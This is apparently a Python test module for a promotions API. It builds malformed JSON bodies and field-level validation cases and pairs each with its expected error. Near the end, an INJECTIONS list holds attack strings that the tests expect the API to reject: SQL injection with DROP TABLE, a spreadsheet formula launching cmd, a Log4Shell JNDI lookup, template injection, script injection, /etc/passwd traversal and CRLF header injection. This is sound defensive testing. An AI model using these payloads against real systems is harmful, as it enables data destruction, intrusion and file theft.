"""Bodies that are wrong in themselves, by what is wrong with them, and what hides in their strings."""

import json
from collections.abc import Iterator
from typing import Any

from tests.support.answers import (
    JOB_TYPES,
    NO_OBJECT,
    NOT_DECLARED_AS_JSON,
    NOT_JSON,
    TOO_DEEP,
    TOO_LARGE,
    Element,
    bad_body,
    failure,
    fault,
    invalid,
    required,
)
from tests.support.builders import JOB_ID, MALFORMED_IDS, UNKNOWN_ID
from tests.support.cloud import PROMOTION, Answer
from tests.support.gateway import Request

Case = tuple[Request, Answer]

PROMOTIONS = "/v2/promotions"
P = f"{PROMOTIONS}/<P>"
"""The path of the promotion that a test has stored."""

JOBS = f"POST {P}/jobs"
UPLOADS = f"POST {P}/uploads"
WITH_A_BODY = (f"POST {PROMOTIONS}", f"PUT {P}", f"POST {P}/codes", f"DELETE {P}/codes", UPLOADS, JOBS)

NO_JSON: tuple[str | bytes, ...] = (
    "",
    "{",
    "{'type': 'promotion'}",
    '{"type": "promotion"} {}',
    '{"type": "promotion",}',
    '{"type": NaN}',
    '{"type": Infinity}',
    '{"type": -Infinity}',
    '{"type": 1e999}',
    '{"type": -1e999}',
    '{"type": 0x10}',
    '{"type": "\0"}',
    b"\xef\xbb\xbf\xef\xbb\xbf{}",
    "\0",
    b'{"type": "\xff"}',
    b'{"type": "\xed\xa0\x80"}',
    "{}".encode("utf-16"),
    "[" * 100_000,
    '{"type": ' + "[" * 100_000 + "]" * 100_000 + "}",
    "type=promotion&name=x",
    "<promotion/>",
)
NO_OBJECTS = (
    "[]",
    '[{"type": "promotion"}]',
    "null",
    "true",
    "5",
    '"text"',
    '{"data": []}',
    '{"data": null}',
    '{"data": "text"}',
)
DEEP = ('{"schema": ' + "[" * 51 + "]" * 51 + "}", '{"a":' * 51 + "{}" + "}" * 51)
OTHER_TYPES = (
    "text/plain",
    "text/json",
    "application/xml",
    "application/x-www-form-urlencoded",
    "application/jsonp",
    "json",
    "*/*",
    "\0",
)


TOO_LONG = bad_body("A whole number in the body may have at most 18 digits")
TWICE = bad_body("The body has the member type twice")
ENCODED = failure(
    415, {"status": 415, "title": "Unsupported Media Type", "detail": "Send the body without a Content-Encoding"}
)
UNSOUND = "{} has NUL or half a surrogate pair in it, which no text may have"
TEXTS = (
    ('{"name": "a\\u0000b"}', "data.name"),
    ('{"name": "\\ud800"}', "data.name"),
    ('{"description": "\\udc00"}', "data.description"),
    ('{"data": {"schema": {"a": ["b", {"c": "\\ud83d"}]}}}', "data.schema.a.1.c"),
    ('{"schema": {"\\ud800": 1}}', "data.schema.?"),
    ('{"schema": {"a\\u0000": 1}}', "data.schema.a?"),
    ('{"codes": [{"code": "A", "user": "\\u0000=1"}]}', "data.codes.0.user"),
)
"""A body with a text that not every reader could take, and the path to it."""


def bodies() -> Iterator[Case]:
    """Faults of any body: one function reads them all."""
    yield from ((Request(JOBS, body), NOT_JSON) for body in NO_JSON)
    yield from ((Request(JOBS, body), NO_OBJECT) for body in NO_OBJECTS)
    yield from ((Request(JOBS, body), TOO_DEEP) for body in DEEP)
    yield from ((Request(JOBS, "{}", {"content-type": it}), NOT_DECLARED_AS_JSON) for it in OTHER_TYPES)
    yield Request(JOBS, "{}", {"content-type": "application/json", "content-encoding": "gzip"}), ENCODED
    for number in ("9" * 19, "9" * 5_000, "-" + "1" * 19):
        yield Request(JOBS, f'{{"schema": {{"a": [{number}]}}}}'), TOO_LONG
    for body in ('{"type": 1, "type": 1}', '{"data": {"a": {"type": 1, "b": 2, "type": 3}}}'):
        yield Request(JOBS, body), TWICE
    for text, path in TEXTS:
        yield Request(JOBS, text), failure(400, fault(path, UNSOUND.format(path.rpartition(".")[2])))
    yield Request(JOBS, " " * 1_000_001), TOO_LARGE
    yield Request(JOBS, json.dumps({"name": "é" * 500_000}, ensure_ascii=False)), TOO_LARGE


def wrong(line: str, data: Any, *elements: Element) -> Case:
    """JSON that is sent, and the faults in it."""
    return Request(line, json.dumps({"data": data})), failure(400, *elements)


HUGE = 10**18 - 1
"""The largest whole number that a body may have."""
JOB = {"type": "promotion_job", "job_type": "code_generate", "parameters": {"number_of_codes": 1}}
EXPORT = {"type": "promotion_job", "job_type": "code_export"}
DELETION = {"type": "promotion_job", "job_type": "code_delete", "parameters": {"all": True}}
IMPORT = {"type": "promotion_job", "job_type": "code_import", "parameters": {"upload_id": UNKNOWN_ID}}
PREFIX = "must be at most 32 letters, digits, - and _, and start with a letter or digit"
CODE = "must be at most 64 letters, digits, - _ . % ! and &, and start with a letter or digit"
USER = "must be text of at most 255 characters, or a list of 1 to 25 such texts with 1,000 characters in all"
UNIT = "must be 'per_cart' or 'per_item'"
WHOLE = "must be a whole number"
DATE = "must be a date like 2026-06-01, or one with a time like 2026-06-01T12:00:00Z"
PROMOTION_TYPE = (
    "must be 'fixed_discount', 'percent_discount', 'item_fixed_discount', 'item_percent_discount', 'x_for_y', "
    "'x_for_amount', 'bundle_fixed_discount' or 'bundle_gift'"
)

# Member, value, rule.
PARAMETERS: tuple[tuple[str, Any, str], ...] = (
    ("number_of_codes", 0, "must be at least 1"),
    ("number_of_codes", -HUGE, "must be at least 1"),
    ("number_of_codes", "1", WHOLE),
    ("number_of_codes", 1.5, WHOLE),
    ("number_of_codes", True, WHOLE),
    ("number_of_codes", None, WHOLE),
    ("number_of_codes", {}, WHOLE),
    ("code_length", 7, "must be at least 8"),
    ("code_length", HUGE, "must be at most 16"),
    ("code_length", 8.5, WHOLE),
    ("max_uses_per_code", -1, "must be at least 0"),
    ("max_uses_per_code", HUGE, "must be at most 1000000000"),
    ("max_uses_per_code", "many", WHOLE),
    ("consume_unit", "per_checkout", UNIT),
    ("consume_unit", ["per_cart"], UNIT),
    ("code_prefix", "x" * 33, PREFIX),
    ("code_prefix", "été", PREFIX),
    ("code_prefix", 5, "must be text"),
    ("codes", 5, "is not a parameter of this job"),
    ("", 5, "is not a parameter of this job"),
    ("number_of_codes", -1, "must be at least 1"),
    ("consume_unit", 1, UNIT),
    ("max_uses_per_code", 1_000_000_001, "must be at most 1000000000"),
    ("max_uses_per_code", 1.5, WHOLE),
    ("code_length", 17, "must be at most 16"),
    ("code_length", "8", WHOLE),
    ("code_prefix", "-x", PREFIX),
    ("code_prefix", "_x", PREFIX),
    ("code_prefix", "a b", PREFIX),
    ("code_prefix", "a/b", PREFIX),
    ("code_prefix", "x\n", PREFIX),
    ("code_prefix", "{x}", PREFIX),
    ("number_of_code", 1, "is not a parameter of this job"),
    ("user", "me", "is not a parameter of this job"),
)
OF_A_DELETION: tuple[tuple[str, Any, str], ...] = (
    ("job_id", "1", "must be the id of a job"),
    ("job_id", f"{UNKNOWN_ID}\n", "must be the id of a job"),
    ("job_id", f"{UNKNOWN_ID}#00000000", "must be the id of a job"),
    ("job_id", 5, "must be text"),
    ("job_id", [UNKNOWN_ID], "must be text"),
    ("all", 1, "must be true or false"),
    ("all", "true", "must be true or false"),
    ("all", [], "must be true or false"),
    ("number_of_codes", 1, "is not a parameter of this job"),
    ("filter", "eq(code,a)", "is not a parameter of this job"),
    *(("job_id", it, "must be the id of a job") for it in MALFORMED_IDS),
    ("codes", ["a"], "is not a parameter of this job"),
    ("job_ids", [JOB_ID], "is not a parameter of this job"),
)
HEADER = "must be false, or name columns in at most 100 characters each"
COLUMN = "must be 'code', 'consume_unit', 'max_uses', 'uses', 'user', 'created_by', 'created_at' or 'job_id'"
OF_AN_EXPORT: tuple[tuple[str, Any, str], ...] = (
    ("job_id", "1", "must be the id of a job"),
    ("columns", [], "must have at least 1 entries"),
    ("columns", "code", "must be a list"),
    ("columns", ["code", "user", "code"], "must name each column once"),
    ("columns.0", ["Code"], COLUMN),
    ("columns.1", ["code", 5], COLUMN),
    ("header", True, HEADER),
    ("header", 0, HEADER),
    ("header", "none", HEADER),
    ("header", ["Coupon"], HEADER),
    ("header", {"coupon": "Code"}, HEADER),
    ("header", {"code": ""}, HEADER),
    ("header", {"code": "x" * 101}, HEADER),
    ("header", {"code": None}, HEADER),
    ("rows_per_file", 0, "must be at least 1"),
    ("rows_per_file", 10_000_001, "must be at most 10000000"),
    ("rows_per_file", "50000", WHOLE),
    ("bom", "yes", "must be true or false"),
    ("line_ending", "cr", "must be 'crlf' or 'lf'"),
    ("gzip", 1, "must be true or false"),
    ("number_of_codes", 1, "is not a parameter of this job"),
    ("separator", ";", "is not a parameter of this job"),
)
OF_AN_IMPORT: tuple[tuple[str, Any, str], ...] = (
    ("upload_id", None, "must be text"),
    ("upload_id", 5, "must be text"),
    ("upload_id", "", "must be the id of an upload"),
    ("upload_id", f"{UNKNOWN_ID}\n", "must be the id of an upload"),
    *(("upload_id", it, "must be the id of an upload") for it in MALFORMED_IDS),
    ("on_duplicate", "replace", "must be 'skip' or 'fail'"),
    ("on_duplicate", True, "must be 'skip' or 'fail'"),
    ("max_uses_per_code", -1, "must be at least 0"),
    ("max_uses_per_code", HUGE, "must be at most 1000000000"),
    ("max_uses_per_code", "1", WHOLE),
    ("consume_unit", "per_checkout", UNIT),
    ("user", "me", "is not a parameter of this job"),
    ("codes", ["A"], "is not a parameter of this job"),
)
SHA256 = "must be 64 hexadecimal digits in lower case"
OF_AN_UPLOAD: tuple[tuple[str, Any, str], ...] = (
    ("bytes", None, WHOLE),
    ("bytes", "7", WHOLE),
    ("bytes", 7.5, WHOLE),
    ("bytes", True, WHOLE),
    ("bytes", 0, "must be at least 1"),
    ("bytes", -1, "must be at least 1"),
    ("bytes", 500_000_001, "must be at most 500000000"),
    ("bytes", HUGE, "must be at most 500000000"),
    ("sha256", "0" * 63, SHA256),
    ("sha256", "A" * 64, SHA256),
    ("sha256", "0" * 64 + "\n", SHA256),
    ("sha256", 5, "must be text"),
)
MEMBERS: tuple[tuple[str, Any, str], ...] = (
    ("type", "promotion_job", "must be 'promotion'"),
    ("type", ["promotion"], "must be 'promotion'"),
    ("name", "", "must have at least 1 characters"),
    ("name", "x" * 256, "must have at most 255 characters"),
    ("description", None, "must be text"),
    ("enabled", "true", "must be true or false"),
    ("automatic", 1, "must be true or false"),
    ("promotion_type", "free", PROMOTION_TYPE),
    ("schema", [], "must be an object"),
    ("schema", "{}", "must be an object"),
    ("min_cart_value", {}, "must be a list"),
    ("max_discount_value", 5, "must be a list"),
    ("max_applications_per_cart", -HUGE, "must be at least 0"),
    ("max_applications_per_cart", 0.5, WHOLE),
    ("max_codes", 0, "must be at least 1"),
    ("max_codes", HUGE, "must be at most 10000000"),
    ("max_codes", "1000", WHOLE),
    ("start", "soon", DATE),
    ("start", "2026-13-01", DATE),
    ("start", "0001-01-01T00:00:00+23:59", DATE),
    ("start", 1_780_315_200, "must be text"),
    ("end", "9999-12-31T23:59:59-23:59", DATE),
    ("name", None, "must be text"),
    ("description", 1, "must be text"),
    ("enabled", 1, "must be true or false"),
    ("automatic", None, "must be true or false"),
    ("max_applications_per_cart", -1, "must be at least 0"),
    ("max_codes", 10_000_001, "must be at most 10000000"),
    ("max_codes", None, WHOLE),
    ("start", "1.6.2026", DATE),
    ("start", "2026-02-30", DATE),
    ("start", "2026-06-01T25:00", DATE),
    ("start", "2026-06-01T12:00:00+99:00", DATE),
    ("start", "0001-01-01T00:00:00+02:00", DATE),
    ("start", "20260601", DATE),
    ("start", "\N{FULLWIDTH DIGIT TWO}026-06-01", DATE),
    ("end", "", DATE),
)
OF_A_CODE: tuple[tuple[str, Any, str], ...] = (
    ("code", None, "must be text"),
    ("code", 5, "must be text"),
    ("code", "", CODE),
    ("code", "x" * 65, CODE),
    ("code", "a b", CODE),
    ("code", "ÉTÉ", CODE),
    ("code", "a+b", CODE),
    ("code", "a/b", CODE),
    ("code", ".a", CODE),
    ("uses", -1, "must be at least 0"),
    ("uses", HUGE, "must be at most 1000000000"),
    ("uses", 1.5, WHOLE),
    ("user", "x" * 256, USER),
    ("user", 5, USER),
    ("user", {"id": "a"}, USER),
    ("user", [], USER),
    ("user", ["a", ""], USER),
    ("user", ["a", 5], USER),
    ("user", ["x" * 256], USER),
    ("user", ["x"] * 26, USER),
    ("user", ["x" * 251] * 4, USER),
    ("consume_unit", "per_checkout", UNIT),
)


def values() -> Iterator[Case]:
    """One member of a body that breaks its rule."""
    for name, value, rule in PARAMETERS:
        job = JOB | {"parameters": {"number_of_codes": 1, name: value}}
        yield wrong(JOBS, job, fault(f"data.parameters.{name}", f"{name} {rule}"))
    for name, value, rule in OF_A_DELETION:
        deletion = DELETION | {"parameters": {"all": True, name: value}}
        yield wrong(JOBS, deletion, fault(f"data.parameters.{name}", f"{name} {rule}"))
    for name, value, rule in OF_AN_EXPORT:
        export = EXPORT | {"parameters": {name.partition(".")[0]: value}}
        yield wrong(JOBS, export, invalid(f"data.parameters.{name}", rule))
    for name, value, rule in OF_AN_IMPORT:
        imported = IMPORT | {"parameters": {"upload_id": UNKNOWN_ID, name: value}}
        yield wrong(JOBS, imported, fault(f"data.parameters.{name}", f"{name} {rule}"))
    for name, value, rule in OF_AN_UPLOAD:
        yield wrong(UPLOADS, {"bytes": 7, name: value}, invalid(f"data.{name}", rule))
    for name, value, rule in MEMBERS:
        yield wrong(f"POST {PROMOTIONS}", {**PROMOTION, name: value}, invalid(f"data.{name}", rule))
        yield wrong(f"PUT {P}", {name: value}, invalid(f"data.{name}", rule))
    for name, value, rule in OF_A_CODE:
        sent: dict[str, Any] = {"type": "promotion_codes", "codes": [{"code": "A", name: value}]}
        yield wrong(f"POST {P}/codes", sent, invalid(f"data.codes.0.{name}", rule))


def whole_jobs() -> Iterator[Case]:
    """More than one thing wrong with a job, or what is wrong as a whole."""
    yield wrong(JOBS, {}, required("data.job_type"))
    yield wrong(JOBS, JOB | {"job_type": None}, required("data.job_type"))
    no_types: tuple[Any, ...] = ("code_purge", "", 1, {}, ["code_generate"])
    for job_type in no_types:
        yield wrong(JOBS, JOB | {"job_type": job_type}, invalid("data.job_type", JOB_TYPES))
    yield wrong(JOBS, {name: JOB[name] for name in ("job_type", "parameters")}, required("data.type"))
    for type_ in ("job", None):
        yield wrong(JOBS, JOB | {"type": type_}, invalid("data.type", "must be 'promotion_job'"))
    for job in (JOB, EXPORT, DELETION, IMPORT):
        yield wrong(JOBS, job | {"name": "x" * 51}, invalid("data.name", "must have at most 50 characters"))
        yield wrong(JOBS, job | {"name": 1}, invalid("data.name", "must be text"))
        yield wrong(JOBS, job | {"parameters": []}, invalid("data.parameters", "must be an object"))
        yield wrong(JOBS, job | {"parameters": "none"}, invalid("data.parameters", "must be an object"))
    for job in (JOB, DELETION, IMPORT):
        yield wrong(JOBS, job | {"parameters": None}, invalid("data.parameters", "must be an object"))
        yield wrong(JOBS, {name: job[name] for name in ("type", "job_type")}, required("data.parameters"))
    yield wrong(JOBS, JOB | {"parameters": {}}, required("data.parameters.number_of_codes"))
    yield wrong(JOBS, IMPORT | {"parameters": {}}, required("data.parameters.upload_id"))
    yield wrong(
        JOBS,
        EXPORT | {"parameters": {"columns": ["code"], "header": {"user": "Name"}}},
        invalid("data.parameters", "may name in header only columns that are exported"),
    )
    either = invalid("data.parameters", "must have either job_id, or all as true")
    for parameters in ({}, {"all": False}, {"all": None, "job_id": None}, {"all": True, "job_id": UNKNOWN_ID}):
        yield wrong(JOBS, DELETION | {"parameters": parameters}, either)
    yield wrong(
        JOBS,
        DELETION | {"parameters": {"all": "yes", "job_id": 5, "codes": []}},
        invalid("data.parameters.job_id", "must be text"),
        invalid("data.parameters.all", "must be true or false"),
        invalid("data.parameters.codes", "is not a parameter of this job"),
    )
    yield wrong(
        JOBS,
        {"job_type": "code_generate", "name": "x" * 51, "parameters": {"code_length": 7}},
        required("data.type"),
        invalid("data.name", "must have at most 50 characters"),
        required("data.parameters.number_of_codes"),
        invalid("data.parameters.code_length", "must be at least 8"),
    )


def wholes() -> Iterator[Case]:
    """The same of what is no job."""
    promotions = f"POST {PROMOTIONS}"
    members = ("type", "name", "description", "promotion_type", "schema", "start", "end")
    yield wrong(promotions, {}, *(required(f"data.{name}") for name in members))
    yield wrong(UPLOADS, {}, required("data.bytes"))
    backwards = fault("data.end", "end must not be before start")
    yield wrong(promotions, {**PROMOTION, "end": "2020-01-01"}, backwards)
    yield wrong(f"PUT {P}", {"start": "2999-01-01"}, backwards)
    bulky = fault("data", "a promotion may have at most 20,000 bytes")
    yield wrong(promotions, {**PROMOTION, "schema": {"a": "x" * 20_000}}, bulky)
    for letter in ("x", "é", "😀"):
        yield wrong(promotions, {**PROMOTION, "description": letter * 20_000}, bulky)
    yield wrong(f"PUT {P}", {"description": "é" * 4_000}, bulky)
    for method in ("POST", "DELETE"):
        codes = f"{method} {P}/codes"
        yield wrong(codes, {}, required("data.type"), required("data.codes"))
        for value, rule in (
            ({}, "must be a list"),
            ("A", "must be a list"),
            ([], "must have at least 1 entries"),
            ([{"code": "A"}] * 51, "must have at most 50 entries"),
        ):
            yield wrong(codes, {"type": "promotion_codes", "codes": value}, invalid("data.codes", rule))
        unnamed: list[Any] = ["A", {}]
        elements = invalid("data.codes.0", "must be an object"), required("data.codes.1.code")
        yield wrong(codes, {"type": "promotion_codes", "codes": unnamed}, *elements)
    many = {"type": "promotion_codes", "codes": [{"code": ""}] * 50}
    yield wrong(f"POST {P}/codes", many, *(invalid(f"data.codes.{it}.code", CODE) for it in range(20)))


INJECTIONS = (
    "'; DROP TABLE promotions; --",
    "' OR '1'='1",
    "' AND \"sk\" = 'CODE",
    "\"} VALUE {'pk': 'CODE#x', 'sk': 'CODE'}",
    "attribute_not_exists(pk) OR #pk = :pk",
    "#status",
    ":completed",
    "SET #room = :room",
    "=cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "${jndi:ldap://example.com/a}",
    "{{7*7}}",
    "{0.__class__}",
    "%s%n%x",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "a\0b",
    "a\r\nSet-Cookie: a=b",
    '{"$ref": "#"}',
    "CODE#x",
    "PROMOTION#x\nJOB#y",
)


def injections() -> Iterator[Case]:
    """Something that a database, a spreadsheet, a shell or a browser would run, in every string that has a rule."""
    for it in (text for text in INJECTIONS if "\0" not in text):
        for line in (f"POST {PROMOTIONS}", f"PUT {P}"):
            for name, rule in (("type", "must be 'promotion'"), ("promotion_type", PROMOTION_TYPE)):
                yield wrong(line, {**PROMOTION, name: it}, invalid(f"data.{name}", rule))
            dates = [invalid(f"data.{name}", DATE) for name in ("start", "end")]
            yield wrong(line, {**PROMOTION, "start": it, "end": it}, *dates)
        for name, rule in (("consume_unit", UNIT), ("code_prefix", PREFIX)):
            sent = JOB | {"parameters": {"number_of_codes": 1, name: it}}
            yield wrong(JOBS, sent, invalid(f"data.parameters.{name}", rule))
        yield wrong(JOBS, JOB | {"job_type": it}, invalid("data.job_type", JOB_TYPES))
        unknown = JOB | {"parameters": {"number_of_codes": 1, it: 1}}
        yield wrong(JOBS, unknown, fault(f"data.parameters.{it}", f"{it} is not a parameter of this job"))
        codes = {"type": "promotion_codes", "codes": [{"code": it, "consume_unit": it}]}
        rules = [invalid("data.codes.0.code", CODE), invalid("data.codes.0.consume_unit", UNIT)]
        yield wrong(f"POST {P}/codes", codes, *rules)
